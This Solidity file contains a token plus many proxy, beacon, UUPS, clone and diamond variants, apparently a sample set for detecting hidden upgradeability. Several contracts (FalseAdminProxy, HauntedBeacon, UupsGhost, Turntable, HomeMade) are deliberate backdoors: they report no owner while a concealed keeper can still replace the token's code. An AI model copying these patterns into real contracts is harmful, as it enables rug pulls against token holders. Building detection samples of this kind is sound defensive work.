// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// A token whose state is filled by a call, since its constructor runs elsewhere.
contract Sheltered {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address internal _owner;
    uint256[20] private __gap;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, address to) external {
        require(totalSupply == 0, "initialized");
        name = name_;
        symbol = symbol_;
        _owner = to;
        totalSupply = 1_000_000_000e18;
        balanceOf[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) internal virtual returns (bool) {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// The same with the owner shown, who may go.
contract ShelteredOwned is Sheltered {
    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner);
        _owner = address(0);
    }
}

bytes32 constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
bytes32 constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
bytes32 constant BEACON = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

abstract contract Delegator {
    function _target() internal view virtual returns (address);

    function _start(address target, bytes memory data) internal {
        (bool fine, ) = target.delegatecall(data);
        require(fine, "start");
    }

    fallback() external payable virtual {
        _delegate(_target());
    }

    function _delegate(address target) internal {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let fine := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(fine) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// The transparent kind: its admin is told apart from everybody else.
contract AdminProxy is Delegator {
    constructor(address target, address admin, bytes memory data) payable {
        assembly {
            sstore(IMPLEMENTATION, target)
            sstore(ADMIN, admin)
        }
        _start(target, data);
    }

    function _target() internal view override returns (address target) {
        assembly { target := sload(IMPLEMENTATION) }
    }

    fallback() external payable override {
        address admin;
        assembly { admin := sload(ADMIN) }
        if (msg.sender == admin) {
            require(msg.sig == bytes4(keccak256("upgradeTo(address)")), "admin");
            address next = abi.decode(msg.data[4:], (address));
            assembly { sstore(IMPLEMENTATION, next) }
            return;
        }
        _delegate(_target());
    }
}

/// Shows an admin that is nobody, and obeys somebody else.
contract FalseAdminProxy is Delegator {
    bytes32 private immutable _keeper;

    constructor(address target, address keeper, bytes memory data) payable {
        _keeper = keccak256(abi.encode(keeper));
        assembly { sstore(IMPLEMENTATION, target) }
        _start(target, data);
    }

    function _target() internal view override returns (address target) {
        assembly { target := sload(IMPLEMENTATION) }
    }

    fallback() external payable override {
        if (msg.sig == 0x6d5a1a2c && keccak256(abi.encode(msg.sender)) == _keeper) {
            address next = abi.decode(msg.data[4:], (address));
            assembly { sstore(IMPLEMENTATION, next) }
            return;
        }
        _delegate(_target());
    }
}

/// What a beacon is asked.
interface IBeacon {
    function implementation() external view returns (address);
}

contract OwnedBeacon is IBeacon {
    address public implementation;
    address public owner = msg.sender;

    constructor(address first) {
        implementation = first;
    }

    function upgradeTo(address next) external {
        require(msg.sender == owner);
        implementation = next;
    }
}

/// Its owner looks gone, and its keeper isn't.
contract HauntedBeacon is IBeacon {
    address public implementation;
    address private immutable _keeper;

    constructor(address first, address keeper) {
        implementation = first;
        _keeper = keeper;
    }

    function owner() external pure returns (address) {
        return address(0);
    }

    function sync(address next) external {
        require(msg.sender == _keeper);
        implementation = next;
    }
}

contract StoneBeacon is IBeacon {
    address public immutable implementation;

    constructor(address only) {
        implementation = only;
    }
}

contract BeaconShell is Delegator {
    constructor(address beacon, bytes memory data) payable {
        assembly { sstore(BEACON, beacon) }
        _start(IBeacon(beacon).implementation(), data);
    }

    function _target() internal view override returns (address) {
        address beacon;
        assembly { beacon := sload(BEACON) }
        return IBeacon(beacon).implementation();
    }
}

/// For tokens that upgrade themselves: the shell only forwards.
contract PlainShell is Delegator {
    constructor(address target, bytes memory data) payable {
        assembly { sstore(IMPLEMENTATION, target) }
        _start(target, data);
    }

    function _target() internal view override returns (address target) {
        assembly { target := sload(IMPLEMENTATION) }
    }
}

contract UupsOwned is ShelteredOwned {
    function proxiableUUID() external pure returns (bytes32) {
        return IMPLEMENTATION;
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        require(msg.sender == _owner, "not the owner");
        assembly { sstore(IMPLEMENTATION, next) }
        if (data.length > 0) {
            (bool fine, ) = next.delegatecall(data);
            require(fine);
        }
    }
}

/// The owner is asked nothing: whoever once started it decides, gone or not.
contract UupsGhost is ShelteredOwned {
    address private immutable _ghost;

    constructor(address ghost) {
        _ghost = ghost;
    }

    function upgradeToAndCall(address next, bytes calldata) external payable {
        require(tx.origin == _ghost, "not the owner");
        assembly { sstore(IMPLEMENTATION, next) }
    }
}

/// Makes minimal proxies; the token is one of them.
contract CloneShell {
    constructor(address target, bytes memory data) {
        (bool fine, ) = target.delegatecall(data);
        require(fine);
        bytes memory code = abi.encodePacked(hex"363d3d373d3d3d363d73", target, hex"5af43d82803e903d91602b57fd5bf3");
        assembly { return(add(code, 32), mload(code)) }
    }
}

/// What a minimal proxy may point at: one more door, with a switch behind it.
contract Turntable is Delegator {
    address private immutable _first;
    address private immutable _keeper;

    constructor(address first, address keeper) {
        _first = first;
        _keeper = keeper;
    }

    function _target() internal view override returns (address target) {
        assembly { target := sload(0x71a5) }
        if (target == address(0)) target = _first;
    }

    function turn(address next) external {
        require(msg.sender == _keeper);
        assembly { sstore(0x71a5, next) }
    }
}

/// Keeps the address of its code where no standard looks.
contract HomeMade is Delegator {
    bytes32 private constant SLOT = keccak256("my.very.own.slot");
    address private immutable _keeper;

    constructor(address target, address keeper, bytes memory data) payable {
        _keeper = keeper;
        bytes32 slot = SLOT;
        assembly { sstore(slot, target) }
        _start(target, data);
    }

    function refresh_9a1(address next) external {
        require(msg.sender == _keeper, "");
        bytes32 slot = SLOT;
        assembly { sstore(slot, next) }
    }

    function _target() internal view override returns (address target) {
        bytes32 slot = SLOT;
        assembly { target := sload(slot) }
    }
}

/// The same without anybody who could change it.
contract HomeFixed is Delegator {
    address private immutable _code;

    constructor(address target, bytes memory data) payable {
        _code = target;
        _start(target, data);
    }

    function _target() internal view override returns (address) {
        return _code;
    }
}

library Facets {
    struct Layout {
        mapping(bytes4 => address) facetOf;
        bytes4[] selectors;
        address[] facets;
        address keeper;
    }

    function layout() internal pure returns (Layout storage l) {
        bytes32 slot = keccak256("diamond.standard.diamond.storage");
        assembly { l.slot := slot }
    }
}

/// Each function may live somewhere else.
abstract contract DiamondBase {
    constructor(address facet, address keeper, bytes4[] memory selectors, bytes memory data) {
        Facets.Layout storage l = Facets.layout();
        l.keeper = keeper;
        l.facets.push(facet);
        for (uint256 i; i < selectors.length; i++) {
            l.facetOf[selectors[i]] = facet;
            l.selectors.push(selectors[i]);
        }
        (bool fine, ) = facet.delegatecall(data);
        require(fine);
    }

    function facetAddresses() external view returns (address[] memory) {
        return Facets.layout().facets;
    }

    function facetAddress(bytes4 selector) external view returns (address) {
        return Facets.layout().facetOf[selector];
    }

    function facetFunctionSelectors(address) external view returns (bytes4[] memory) {
        return Facets.layout().selectors;
    }

    fallback() external payable {
        address facet = Facets.layout().facetOf[msg.sig];
        require(facet != address(0), "no such function");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let fine := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(fine) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

contract CutDiamond is DiamondBase {
    struct FacetCut {
        address facet;
        uint8 action;
        bytes4[] selectors;
    }

    constructor(address facet, address keeper, bytes4[] memory selectors, bytes memory data) DiamondBase(facet, keeper, selectors, data) {}

    function diamondCut(FacetCut[] calldata cuts, address, bytes calldata) external {
        Facets.Layout storage l = Facets.layout();
        require(msg.sender == l.keeper, "not allowed");
        for (uint256 i; i < cuts.length; i++) {
            for (uint256 j; j < cuts[i].selectors.length; j++) l.facetOf[cuts[i].selectors[j]] = cuts[i].facet;
        }
    }
}

/// The keeper is shown.
contract OwnedDiamond is DiamondBase {
    struct FacetCut {
        address facet;
        uint8 action;
        bytes4[] selectors;
    }

    constructor(address facet, address keeper, bytes4[] memory selectors, bytes memory data) DiamondBase(facet, keeper, selectors, data) {}

    function owner() external view returns (address) {
        return Facets.layout().keeper;
    }

    function diamondCut(FacetCut[] calldata cuts, address, bytes calldata) external {
        Facets.Layout storage l = Facets.layout();
        require(msg.sender == l.keeper, "not allowed");
        for (uint256 i; i < cuts.length; i++) {
            for (uint256 j; j < cuts[i].selectors.length; j++) l.facetOf[cuts[i].selectors[j]] = cuts[i].facet;
        }
    }
}

/// Nobody cuts this one.
contract SetDiamond is DiamondBase {
    constructor(address facet, bytes4[] memory selectors, bytes memory data) DiamondBase(facet, address(0), selectors, data) {}
}
